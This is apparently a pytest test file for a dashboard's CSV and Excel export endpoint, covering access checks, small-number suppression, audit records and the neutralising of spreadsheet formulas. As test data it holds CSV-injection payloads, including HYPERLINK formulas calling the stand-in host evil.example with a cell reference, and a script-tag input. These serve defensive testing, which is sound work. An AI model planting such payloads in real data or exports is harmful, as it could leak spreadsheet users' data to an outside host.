"""Exports over HTTP: the table on the page as CSV or Excel, for the team or (small-number rule)
for sharing; the same checks as the page; every export recorded."""

from __future__ import annotations

import csv
import io
import json
import re
import zipfile
from typing import Any

import pytest
from openpyxl import load_workbook

from callbacks.export import FORMATS
from dashboard.app_factory import create_app
from dashboard.clock import FixedClock
from dashboard.config import Settings
from dashboard.disclosure import RULE_TEXT
from dashboard.inert_cells import FORMULA_STARTS, inert, is_number
from dashboard.pages import PAGES
from data_access.access import load_scope
from data_access.actions import record_action
from data_access.audit import recent_events
from data_access.metrics.waiting import waiting_at
from layouts.components import HOLDER, component_nodes
from tests.accounts import add_user, sign_in_client
from tests.builders import (
    GEOGRAPHY,
    TODAY_AT,
    TODAY_CAPACITY,
    TODAY_DELAYS,
    TODAY_EPISODES,
    checked_area,
    load_files,
    system_area,
)
from tests.dash_calls import call_callback

BANDS = "/export?path=/&search=?area=ICB1&table=bands-table"


@pytest.fixture
def app(engine, database_url, tmp_path) -> Any:  # type: ignore[no-untyped-def]
    assert load_files(engine, tmp_path / "batch", {**GEOGRAPHY,
                                                  "episodes.csv": TODAY_EPISODES}).loaded
    return create_app(Settings(database_url=database_url, clock=FixedClock(TODAY_AT)), engine)


def signed_in(app: Any, engine: Any, role: str, areas: tuple[str, ...] = ()) -> Any:
    client = app.server.test_client()
    sign_in_client(client, add_user(engine, role, areas))
    return client


def rows_of(answer: Any) -> list[list[str]]:
    return list(csv.reader(io.StringIO(answer.get_data().decode("utf-8-sig"))))


def test_a_table_exports_as_csv_for_the_team(app, engine) -> None:
    client = signed_in(app, engine, "executive")
    answer = client.get(f"{BANDS}&format=csv&audience=team")
    assert answer.status_code == 200
    assert answer.headers["Content-Disposition"] == 'attachment; filename="bands-table.csv"'
    rows = rows_of(answer)
    assert rows[0] == ["Delay (whole days)", "People"]
    bands = waiting_at(engine, system_area(engine, "ICB1"), TODAY_AT).by_band
    assert rows[1:1 + len(bands)] == [[band, str(n)] for band, n in bands.items()]
    assert "small numbers are not suppressed" in rows[-1][0]
    (event,) = recent_events(engine, action="export").itertuples()
    assert (event.username, event.rows, event.detail) == ("test-executive", len(bands),
                                                          "csv, team")
    assert "bands-table" in event.scope and "area=ICB1" in event.scope


def test_an_export_for_sharing_applies_the_small_number_rule_and_says_so(app, engine) -> None:
    client = signed_in(app, engine, "executive")
    rows = rows_of(client.get(f"{BANDS}&format=csv&audience=share"))
    # The hand-made system has 5 people waiting, none of them in a band of 8 or more.
    bands = waiting_at(engine, system_area(engine, "ICB1"), TODAY_AT).by_band
    assert rows[1:1 + len(bands)] == [[band, "0" if n == 0 else "*"]
                                      for band, n in bands.items()]
    assert [RULE_TEXT] in rows


def test_an_excel_export_has_the_figures_and_a_sheet_about_them(app, engine) -> None:
    client = signed_in(app, engine, "place_manager")
    answer = client.get(f"{BANDS}&format=xlsx&audience=share")
    assert answer.status_code == 200
    book = load_workbook(io.BytesIO(answer.get_data()))
    figures = [[c.value for c in row] for row in book["Figures"].iter_rows()]
    assert figures[0] == ["Delay (whole days)", "People"]
    assert {row[1] for row in figures[1:]} <= {0, "*"}
    about = [row[0].value for row in book["About"].iter_rows()]
    assert RULE_TEXT in about and any("Exported" in note for note in about)


def test_exports_are_checked_like_the_page(app, engine) -> None:
    hub_lead = signed_in(app, engine, "hub_lead", ("D1",))
    assert hub_lead.get(BANDS.replace("ICB1", "D1") + "&format=csv").status_code == 200
    refused = hub_lead.get(f"{BANDS}&format=csv")
    assert refused.status_code == 403 and "outside the areas you may see" in refused.get_data(
        as_text=True)
    executive = signed_in(app, engine, "executive")
    people = executive.get("/export?path=/huddle&search=?area=ICB1&table=huddle-table-1")
    assert people.status_code == 403
    anonymous = app.server.test_client().get(f"{BANDS}&format=csv")
    assert anonymous.status_code == 302 and anonymous.headers["Location"].startswith("/login")
    assert set(recent_events(engine, action="refused").username) == {"test-hub_lead",
                                                                     "test-executive"}


@pytest.mark.parametrize(("query", "status"), [
    ("path=/&search=?area=ICB1&table=no-such-table", 404),
    ("path=/nowhere&table=bands-table", 404),
    ("path=/&table=bands-table&format=pdf", 400),
    ("path=/&table=<script>&format=csv", 400),
    ("path=/&table=bands-table&audience=everyone", 400),
])
def test_bad_export_requests_get_a_clear_message(app, engine, query: str, status: int) -> None:
    client = signed_in(app, engine, "executive")
    answer = client.get(f"/export?{query}")
    assert answer.status_code == status
    assert "Traceback" not in answer.get_data(as_text=True)


# People whose references a spreadsheet would run as formulas (OWASP, CSV injection).
HOSTILE_REFS = {"p1": '=HYPERLINK("http://evil.example/?x="&A2,"Open")', "p2": "+1+1",
                "p3": "@SUM(1+1)", "p4": "-2+3"}
HUDDLE = "/export?path=/huddle&search=?area=ICB1&table=huddle-table-1&audience=team"


def _hostile_episodes() -> str:
    text = TODAY_EPISODES
    for ref, hostile in HOSTILE_REFS.items():
        quoted = '"' + hostile.replace('"', '""') + '"'
        text = text.replace(f",{ref},S1,", f",{quoted},S1,")
    return text


def test_no_exported_cell_can_run_as_a_formula(engine, database_url, tmp_path) -> None:
    assert load_files(engine, tmp_path / "batch", {**GEOGRAPHY,
                                                  "episodes.csv": _hostile_episodes()}).loaded
    app = create_app(Settings(database_url=database_url, clock=FixedClock(TODAY_AT)), engine)
    client = signed_in(app, engine, "hub_lead", ("ICB1",))

    # CSV, read back as a spreadsheet reads it: no cell starts as a formula, unless a number.
    rows = rows_of(client.get(f"{HUDDLE}&format=csv"))
    cells = [cell for row in rows for cell in row]
    assert all(is_number(cell) or not cell.lstrip(" ").startswith(FORMULA_STARTS)
               for cell in cells), [c for c in cells if c.startswith(FORMULA_STARTS)]
    refs = {row[0] for row in rows[1:rows.index([])]}
    assert {"'" + hostile for hostile in HOSTILE_REFS.values()} <= refs  # kept, made inert

    # Excel: no formula anywhere in the workbook's XML, the text kept as it was, numbers numbers.
    answer = client.get(f"{HUDDLE}&format=xlsx")
    with zipfile.ZipFile(io.BytesIO(answer.get_data())) as package:
        sheets = [package.read(name) for name in package.namelist()
                  if name.startswith("xl/worksheets/")]
    assert sheets and not any(re.search(rb"<(\w+:)?f[ >]", sheet) for sheet in sheets)
    book = load_workbook(io.BytesIO(answer.get_data()))
    figures = book["Figures"]
    assert all(cell.data_type != "f" for row in figures.iter_rows() for cell in row)
    assert set(HOSTILE_REFS.values()) <= {row[0].value for row in figures.iter_rows(min_row=2)}
    bands = signed_in(app, engine, "executive").get(f"{BANDS}&format=xlsx&audience=team")
    people = [row[1].value for row in load_workbook(io.BytesIO(bands.get_data()))["Figures"]
              .iter_rows(min_row=2)]
    assert people and all(isinstance(count, int) for count in people)


@pytest.mark.parametrize(("text", "made"), [
    ("=1+1", "'=1+1"), ("+1+1", "'+1+1"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("  =1", "'  =1"), ("-", "'-"),
    ("-3", "-3"), ("+5", "+5"), ("1,234", "1,234"), ("-45.5%", "-45.5%"), ("Ward 7", "Ward 7"),
    ("a=b", "a=b"), ("–", "–"), ("", ""),
])
def test_text_is_made_inert_and_numbers_stay_numbers(text, made) -> None:
    assert inert(text) == made


# An action's free text, hostile: it must reach a team's export made inert, and no export for
# sharing at all.
DETAIL = '=HYPERLINK("http://evil.example","Ring Mrs Example\'s daughter") <b>07700 900123</b>'
BLOCKED = "Waiting for Mrs Example's son to agree the funding"
ACTIONS = "/export?path=/huddle&search=?area=ICB1&table=actions-table"


def exported_text(answer: Any, file_format: str) -> str:
    """Every text of an export: the CSV, or each part of the Excel package."""
    if file_format == "csv" or answer.status_code != 200:  # a refusal is plain text
        return answer.get_data().decode("utf-8-sig")
    with zipfile.ZipFile(io.BytesIO(answer.get_data())) as package:
        return "".join(package.read(name).decode("utf-8", "replace")
                       for name in package.namelist())


def table_ids(client: Any, csrf: str, path: str, search: str) -> set[str]:
    """The id of every table on a page as the route sends it, with those shown on demand (their
    holders stay on the page, empty)."""
    answer = call_callback(client, csrf, "page-content.children",
                           {"url.pathname": path, "url.search": search}, "url.pathname")
    assert answer.status_code == 200, answer.get_data(as_text=True)[:300]
    tree = json.loads(answer.data)["response"]["page-content"]["children"]
    ids = set()
    for node in component_nodes(tree):
        identity = node["props"].get("id")
        if node.get("type") == "Table" and isinstance(identity, str):
            ids.add(identity)
        elif isinstance(identity, dict) and identity.get("type") == HOLDER:
            ids.add(str(identity["table"]))
    return ids


def test_an_actions_free_text_never_reaches_an_export_for_sharing(engine, database_url,
                                                                  tmp_path) -> None:
    assert load_files(engine, tmp_path / "batch", {
        **GEOGRAPHY, "episodes.csv": TODAY_EPISODES, "delays.csv": TODAY_DELAYS,
        "capacity.csv": TODAY_CAPACITY}).loaded
    app = create_app(Settings(database_url=database_url, clock=FixedClock(TODAY_AT)), engine)
    hub = app.server.test_client()
    lead = add_user(engine, "hub_lead", ("ICB1",))
    sign_in_client(hub, lead)
    scope = load_scope(engine, lead)
    record_action(engine, scope, checked_area(engine, scope, "ICB1"), "E2", {
        "kind": "funding_decision", "detail": DETAIL, "owner_team": "Funding panel",
        "due_at": "2026-11-25T17:00", "status": "blocked", "blocked_reason": BLOCKED},
        TODAY_AT)

    # For the hub's own team: the actions, their free text kept and made inert.
    team = rows_of(hub.get(f"{ACTIONS}&format=csv&audience=team"))
    assert inert(DETAIL) in team[1] and any(BLOCKED in cell for cell in team[1])
    # For sharing: refused, nothing of the list sent.
    for file_format in FORMATS:
        shared = hub.get(f"{ACTIONS}&format={file_format}&audience=share")
        assert shared.status_code == 403
        assert "Mrs Example" not in shared.get_data(as_text=True)

    # Every table of every page, exported for sharing by each role that shares figures: the
    # free text is in none of them.
    exported = 0
    for role in ("executive", "place_manager", "hub_lead"):
        client = app.server.test_client()
        csrf = sign_in_client(client, lead if role == "hub_lead" else
                              add_user(engine, role))["X-CSRFToken"]
        for page in PAGES:
            for table in table_ids(client, csrf, page.path, "?area=ICB1"):
                for file_format in FORMATS:
                    answer = client.get(f"/export?path={page.path}&search=?area=ICB1"
                                        f"&table={table}&format={file_format}&audience=share")
                    assert answer.status_code in (200, 403), (page.path, table)
                    text = exported_text(answer, file_format)
                    assert "Mrs Example" not in text and "07700" not in text, (page.path, table)
                    exported += answer.status_code == 200
    assert exported > 50  # the walk reached the pages' tables
